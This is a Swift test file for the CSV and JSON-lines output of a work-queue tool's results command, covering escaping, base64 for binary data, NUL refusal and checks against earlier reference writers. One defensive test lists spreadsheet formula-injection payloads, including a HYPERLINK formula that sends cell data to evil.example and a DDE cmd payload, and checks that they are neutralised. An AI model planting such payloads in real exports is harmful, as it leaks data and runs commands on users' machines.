import Foundation
import Testing
import WorkQueue
import WorkQueueRedis
@testable import WorkQueueCommand

/// How `workqueue results` writes a record: JSON lines (bytes that are not UTF-8 as base64) or
/// CSV (the raw bytes, quoted where needed).
@Suite struct ResultsEncodingTests {
    static let text = CompletionReader.Entry(shard: 2, record: CompletionRecord(
        id: "1764000000123-7", item: "say \"hi\"\n\tnow\\é", result: "a,b", attempt: 3, worker: "pod-1:abc"))
    static let binary = CompletionReader.Entry(shard: 0, record: CompletionRecord(
        id: "1764000000124-0", item: WorkItem([0xFF, 0x00, 0x41]), result: "ok", attempt: 1, worker: "w"))

    static func encoded(_ entries: [CompletionReader.Entry], csv: Bool, sharded: Bool) throws -> String {
        var writer = RecordWriter(csv: csv, sharded: sharded)
        for entry in entries { try writer.append(entry) }
        return String(decoding: writer.buffer, as: UTF8.self)
    }

    @Test func jsonLinesEscapeTextAndGiveOtherBytesAsBase64() throws {
        let lines = try Self.encoded([Self.text, Self.binary], csv: false, sharded: true).split(separator: "\n")
        #expect(lines.count == 2)
        #expect(lines[0] == #"{"id":"1764000000123-7","time_ms":1764000000123,"shard":2,"item":"say \"hi\"\n\tnow\\é","#
            + #""result":"a,b","attempt":3,"worker":"pod-1:abc"}"#)
        let first = try #require(try JSONSerialization.jsonObject(with: Data(lines[0].utf8)) as? [String: Any])
        #expect(first["item"] as? String == Self.text.record.item.string, "decodes back to the item")
        let second = try #require(try JSONSerialization.jsonObject(with: Data(lines[1].utf8)) as? [String: Any])
        #expect(second["item"] == nil)
        #expect(second["item_base64"] as? String == "/wBB")
        #expect(Data(base64Encoded: second["item_base64"] as? String ?? "").map(Array.init) == [0xFF, 0x00, 0x41])
        #expect(!(try Self.encoded([Self.text], csv: false, sharded: false)).contains("shard"))
    }

    static let binaryWithoutNUL = CompletionReader.Entry(shard: 0, record: CompletionRecord(
        id: "1764000000124-0", item: WorkItem([0xFF, 0x41]), result: "ok", attempt: 1, worker: "w"))

    @Test func csvQuotesOnlyWhereNeededAndKeepsTheRawBytes() throws {
        let text = try Self.encoded([Self.text, Self.binaryWithoutNUL], csv: true, sharded: false)
        #expect(text.hasPrefix("1764000000123-7,1764000000123,3,pod-1:abc,\"say \"\"hi\"\"\n\tnow\\é\",\"a,b\"\n"))
        var writer = RecordWriter(csv: true, sharded: false)
        try writer.append(Self.binaryWithoutNUL)
        #expect(writer.buffer == Array("1764000000124-0,1764000000124,1,w,".utf8) + [0xFF, 0x41] + Array(",ok\n".utf8))
    }

    /// Issue 27: cells a spreadsheet would evaluate get a leading quote (and are quoted).
    @Test func csvNeutralisesCellsThatStartAFormula() throws {
        let cells = [#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#, "+1+cmd|'/C calc'!A0", "@SUM(1,2)", "-2+3",
                     "\tTAB", "\rCR", "plain", "a=b"]
        for (index, cell) in cells.enumerated() {
            let entry = CompletionReader.Entry(shard: 0, record: CompletionRecord(
                id: "1-\(index)", item: WorkItem(cell), result: cell, attempt: 1, worker: cell))
            let line = try Self.encoded([entry], csv: true, sharded: false)
            let fields = line.dropFirst("1-\(index),1,1,".count)
            let quoted = "\"" + cell.replacingOccurrences(of: "\"", with: "\"\"") + "\""
            if ["=", "+", "-", "@", "\t", "\r"].contains(where: { cell.hasPrefix($0) }) {
                let neutral = "\"'" + cell.replacingOccurrences(of: "\"", with: "\"\"") + "\""
                #expect(fields == "\(neutral),\(neutral),\(neutral)\n", "\(cell)")
            } else {
                let plain = cell.contains(",") ? quoted : cell
                #expect(fields == "\(plain),\(plain),\(plain)\n", "\(cell)")
            }
        }
    }

    /// Issue 27: a NUL byte is never written raw into CSV: the record is refused, nothing of it
    /// written (JSON lines carry it).
    @Test func csvRefusesANULByte() throws {
        var writer = RecordWriter(csv: true, sharded: false)
        #expect(throws: CommandError.self) { try writer.append(Self.binary) }
        #expect(writer.buffer.isEmpty)
        #expect(ExitStatus.code(for: CommandError.csvNUL(recordID: "1-0")) == 78)
        #expect(try Self.encoded([Self.binary], csv: false, sharded: false).contains(#""item_base64":"/wBB""#))
    }

    /// Issue 30: the writer was rewritten for speed (numbers formatted in place, no copy of the
    /// result's bytes); every line it writes is byte for byte what the earlier writer wrote,
    /// kept below as the reference, for random records of every kind of content.
    @Test func jsonLinesAreByteIdenticalToTheEarlierWriter() throws {
        let seed = UInt64.random(in: 0...UInt64.max)
        var rng = SplitMix(state: seed)
        let samples: [[UInt8]] = [[], Array("plain".utf8), Array("say \"hi\"\n\tnow\\é".utf8), [0xFF, 0x00, 0x41], [0xC3], [0x7F, 0x1F, 0x01],
                                  Array("日本語 🎉".utf8), Array("=1+2".utf8), [0xE2, 0x82]]
        for _ in 0..<2000 {
            func bytes() -> [UInt8] {
                if Bool.random(using: &rng) { return samples.randomElement(using: &rng) ?? [] }
                return (0..<Int.random(in: 0...40, using: &rng)).map { _ in
                    Bool.random(using: &rng) ? UInt8.random(in: 0...255, using: &rng) : UInt8.random(in: 32...126, using: &rng)
                }
            }
            let id = ["1764000000123-7", "0-1", "2/1764000000123-18446744073709551615", "", "x-y",
                      "\(UInt64.random(in: 0...UInt64.max, using: &rng))-\(Int.random(in: 0...99, using: &rng))"].randomElement(using: &rng) ?? ""
            let record = CompletionRecord(id: id, item: WorkItem(bytes()), result: String(decoding: bytes(), as: UTF8.self),
                                          attempt: [1, 0, -1, Int.min, Int.max, Int.random(in: 2...1000, using: &rng)].randomElement(using: &rng) ?? 1,
                                          worker: String(decoding: bytes(), as: UTF8.self))
            let entry = CompletionReader.Entry(shard: [0, 1, 17, Int.max].randomElement(using: &rng) ?? 0, record: record)
            for sharded in [false, true] {
                var writer = RecordWriter(csv: false, sharded: sharded)
                try writer.append(entry)
                var reference = EarlierRecordWriter(sharded: sharded)
                reference.append(entry)
                #expect(writer.buffer == reference.buffer, "seed \(seed): \(record)")
                if writer.buffer != reference.buffer { return }
            }
        }
    }
}

/// The JSON lines writer as it was before issue 30 (commit 70988f3), the reference for
/// ``ResultsEncodingTests/jsonLinesAreByteIdenticalToTheEarlierWriter()``.
struct EarlierRecordWriter {
    let sharded: Bool
    var buffer: [UInt8] = []

    mutating func append(_ entry: CompletionReader.Entry) {
        let record = entry.record
        buffer.append(contentsOf: #"{"id":""#.utf8)
        buffer.append(contentsOf: record.id.utf8)
        buffer.append(contentsOf: #"","time_ms":"#.utf8)
        appendNumber(record.milliseconds)
        if sharded {
            buffer.append(contentsOf: #","shard":"#.utf8)
            appendNumber(entry.shard)
        }
        appendField("item", record.item.bytes)
        appendField("result", Array(record.result.utf8))
        buffer.append(contentsOf: #","attempt":"#.utf8)
        appendNumber(record.attempt)
        buffer.append(contentsOf: #","worker":"#.utf8)
        appendJSONString(record.worker.utf8)
        buffer.append(contentsOf: "}\n".utf8)
    }

    private mutating func appendField(_ name: String, _ bytes: [UInt8]) {
        buffer.append(contentsOf: ",\"\(name)".utf8)
        if RecordWriter.isValidUTF8(bytes) {
            buffer.append(contentsOf: "\":".utf8)
            appendJSONString(bytes)
        } else {
            buffer.append(contentsOf: "_base64\":\"".utf8)
            buffer.append(contentsOf: Data(bytes).base64EncodedString().utf8)
            buffer.append(UInt8(ascii: "\""))
        }
    }

    private mutating func appendNumber(_ value: Int) {
        buffer.append(contentsOf: String(value).utf8)
    }

    private static let hex = Array("0123456789abcdef".utf8)

    private mutating func appendJSONString(_ bytes: some Collection<UInt8>) {
        buffer.append(UInt8(ascii: "\""))
        for byte in bytes {
            switch byte {
            case UInt8(ascii: "\""): buffer += [UInt8(ascii: "\\"), UInt8(ascii: "\"")]
            case UInt8(ascii: "\\"): buffer += [UInt8(ascii: "\\"), UInt8(ascii: "\\")]
            case UInt8(ascii: "\n"): buffer += [UInt8(ascii: "\\"), UInt8(ascii: "n")]
            case UInt8(ascii: "\r"): buffer += [UInt8(ascii: "\\"), UInt8(ascii: "r")]
            case UInt8(ascii: "\t"): buffer += [UInt8(ascii: "\\"), UInt8(ascii: "t")]
            case 0..<0x20, 0x7F:
                buffer.append(contentsOf: "\\u00".utf8)
                buffer.append(Self.hex[Int(byte >> 4)])
                buffer.append(Self.hex[Int(byte & 0xF)])
            default: buffer.append(byte)
            }
        }
        buffer.append(UInt8(ascii: "\""))
    }
}

/// A seeded generator (SplitMix64), so a failure names a seed that reproduces it.
struct SplitMix: RandomNumberGenerator {
    var state: UInt64

    mutating func next() -> UInt64 {
        state &+= 0x9E37_79B9_7F4A_7C15
        var z = state
        z = (z ^ (z >> 30)) &* 0xBF58_476D_1CE4_E5B9
        z = (z ^ (z >> 27)) &* 0x94D0_49BB_1331_11EB
        return z ^ (z >> 31)
    }
}

/// Issue 30, round 2: `workqueue results` writes each record straight from the `XRANGE`
/// reply's bytes (`CompletionPage`), plain ASCII records in one pass. Every line is byte for
/// byte what the earlier writers wrote from the records the generic RESP reading makes of the
/// same reply: text that is not UTF-8 repaired as a `String` repairs it, items that are not
/// UTF-8 as base64, odd field types, IDs with leading zeros, a shard prefix or no time.
@Suite struct ResultsFromTheWireTests {
    static let alphabet = Array("abcdefghijklmnopqrstuvwxyz0123456789-:=+@ ,'".utf8)

    /// A field value: mostly printable ASCII (the one-pass path), else anything.
    static func text(_ rng: inout SplitMix) -> [UInt8] {
        let count = Int.random(in: 0...40, using: &rng)
        switch Int.random(in: 0..<8, using: &rng) {
        case 0: return (0..<count).map { _ in UInt8.random(in: 0...255, using: &rng) }
        case 1: return Array("say \"hi\"\n\tnow\\é 日本語".utf8) + ([[0x7F], [0xC3], [0xFF, 0xFE], [0x00], []].randomElement(using: &rng) ?? [])
        case 2: return (0..<count).map { _ in UInt8.random(in: 0x1E...0x80, using: &rng) } // around the plain range's edges
        case 3: return (0..<count).map { _ in UInt8.random(in: 0x20...0x7E, using: &rng) }
        default: return (0..<count).map { _ in alphabet[Int.random(in: 0..<alphabet.count, using: &rng)] }
        }
    }

    static func reply(_ rng: inout SplitMix) -> [UInt8] {
        let entries: [RESPValue] = (0..<Int.random(in: 0...20, using: &rng)).map { index in
            let ids = ["1764000000\(Int.random(in: 100...999, using: &rng))-\(index)", "0-1", "007-3", "0123456789012345678-1",
                       "123456789012345678-0", "1234567890123456789012-0", "2/1764000000123-4", "", "x-y", "17é-1", "5"]
            let id = Int.random(in: 0..<3, using: &rng) == 0 ? ids.randomElement(using: &rng) ?? "" : ids[0]
            var fields: [RESPValue] = [.bulkString(string: "item"), .bulkString(bytes: text(&rng)),
                                       .bulkString(string: "result"), .bulkString(bytes: text(&rng)),
                                       .bulkString(string: "attempt"), .bulkString(string: String(Int.random(in: 1...12, using: &rng))),
                                       .bulkString(string: "worker"), .bulkString(bytes: text(&rng))]
            // Now and then a field of another RESP type, as the generic reading takes it.
            if Int.random(in: 0..<6, using: &rng) == 0 {
                let odd: [RESPValue] = [.simpleString(String(decoding: text(&rng).filter { $0 != 13 && $0 != 10 }, as: UTF8.self)),
                                        .integer(Int.random(in: -3...Int.max, using: &rng)), .bulkString(nil), .array(nil),
                                        .bulkString(string: "-7"), .bulkString(string: String(Int.min))]
                fields[2 * Int.random(in: 0..<4, using: &rng) + 1] = odd.randomElement(using: &rng) ?? .bulkString(nil)
            }
            return .array([.bulkString(string: id), .array(fields)])
        }
        return RESPEncoder.encode(.array(entries))
    }

    @Test func linesWrittenFromTheReplyAreTheEarlierWritersLines() throws {
        let seed = UInt64.random(in: 0...UInt64.max)
        var rng = SplitMix(state: seed)
        var plain = 0
        for _ in 0..<500 {
            let wire = Self.reply(&rng)
            var parser = RESPParser()
            parser.feed(wire)
            let records = try XRANGEDecoder.completionRecords(try #require(try parser.next()))
            let page = try CompletionPage(xrangeReply: wire)
            #expect(page.records.map(\.record) == records, "seed \(seed)")
            for sharded in [false, true] {
                var writer = RecordWriter(csv: false, sharded: sharded)
                try writer.append(page)
                var reference = EarlierRecordWriter(sharded: sharded)
                for record in records { reference.append(CompletionReader.Entry(shard: 0, record: record)) }
                #expect(Bool(writer.buffer == reference.buffer), "seed \(seed): \(Self.difference(writer.buffer, reference.buffer))")
                if writer.buffer != reference.buffer { return }

                var csv = RecordWriter(csv: true, sharded: sharded)
                var csvReference = EarlierCSVWriter(sharded: sharded)
                let refused = records.firstIndex { csvReference.refuses($0) }
                if let refused {
                    #expect(throws: CommandError.self) { try csv.append(page) }
                    for record in records[..<refused] { csvReference.append(CompletionReader.Entry(shard: 0, record: record)) }
                } else {
                    try csv.append(page)
                    for record in records { csvReference.append(CompletionReader.Entry(shard: 0, record: record)) }
                }
                #expect(Bool(csv.buffer == csvReference.buffer), "seed \(seed): \(Self.difference(csv.buffer, csvReference.buffer))")
                if csv.buffer != csvReference.buffer { return }
            }
            plain += records.filter { record in
                [Array(record.id.utf8), record.item.bytes, Array(record.result.utf8), Array(record.worker.utf8)].allSatisfy { bytes in
                    bytes.allSatisfy { $0 >= 0x20 && $0 < 0x7F && $0 != UInt8(ascii: "\"") && $0 != UInt8(ascii: "\\") }
                }
            }.count
        }
        #expect(plain > 200, "the one-pass path is taken often (seed \(seed))")
    }

    /// Where two outputs first differ, with some text around it.
    static func difference(_ actual: [UInt8], _ expected: [UInt8]) -> String {
        let common = Swift.min(actual.count, expected.count)
        let index = (0..<common).first { actual[$0] != expected[$0] } ?? common
        func around(_ bytes: [UInt8]) -> String {
            String(decoding: bytes[Swift.max(0, index - 60)..<Swift.min(bytes.count, index + 60)], as: UTF8.self).debugDescription
        }
        return "byte \(index): \(around(actual)) against \(around(expected))"
    }

    /// The time written for an ID is its leading digits' value, however the ID is spelled.
    @Test func timeOfOddIDs() throws {
        let ids = ["0-1", "007-3", "0123456789012345678-1", "123456789012345678-0", "1234567890123456789-0",
                   "99999999999999999999-1", "2/1764000000123-4", "", "x-y", "17é-1", "5", "18446744073709551615-0"]
        for id in ids {
            let wire = RESPEncoder.encode(.array([.array([.bulkString(string: id), .array([
                .bulkString(string: "item"), .bulkString(string: "a"), .bulkString(string: "result"), .bulkString(string: "b"),
            ])])]))
            var writer = RecordWriter(csv: false, sharded: false)
            try writer.append(try CompletionPage(xrangeReply: wire))
            var reference = EarlierRecordWriter(sharded: false)
            reference.append(CompletionReader.Entry(shard: 0, record: CompletionRecord(id: id, item: "a", result: "b", attempt: 1, worker: "")))
            #expect(String(decoding: writer.buffer, as: UTF8.self) == String(decoding: reference.buffer, as: UTF8.self), "\(id)")
        }
    }
}

/// The CSV writer as it was before issue 30, round 2 (commit c003d0a), the reference for
/// ``ResultsFromTheWireTests``.
struct EarlierCSVWriter {
    let sharded: Bool
    var buffer: [UInt8] = []

    func refuses(_ record: CompletionRecord) -> Bool {
        record.item.bytes.contains(0) || record.result.utf8.contains(0) || record.worker.utf8.contains(0)
    }

    mutating func append(_ entry: CompletionReader.Entry) {
        let record = entry.record
        buffer.append(contentsOf: record.id.utf8)
        buffer.append(UInt8(ascii: ","))
        buffer.append(contentsOf: String(record.milliseconds).utf8)
        buffer.append(UInt8(ascii: ","))
        if sharded {
            buffer.append(contentsOf: String(entry.shard).utf8)
            buffer.append(UInt8(ascii: ","))
        }
        buffer.append(contentsOf: String(record.attempt).utf8)
        buffer.append(UInt8(ascii: ","))
        appendCSV(record.worker.utf8)
        buffer.append(UInt8(ascii: ","))
        appendCSV(record.item.bytes)
        buffer.append(UInt8(ascii: ","))
        appendCSV(record.result.utf8)
        buffer.append(UInt8(ascii: "\n"))
    }

    private mutating func appendCSV(_ bytes: some Collection<UInt8>) {
        let neutralised = bytes.first.map(RecordWriter.startsFormula) ?? false
        let special = neutralised
            || bytes.contains { $0 == UInt8(ascii: ",") || $0 == UInt8(ascii: "\"") || $0 == 10 || $0 == 13 }
        guard special else { buffer += bytes; return }
        buffer.append(UInt8(ascii: "\""))
        if neutralised { buffer.append(UInt8(ascii: "'")) }
        for byte in bytes {
            if byte == UInt8(ascii: "\"") { buffer.append(byte) }
            buffer.append(byte)
        }
        buffer.append(UInt8(ascii: "\""))
    }
}
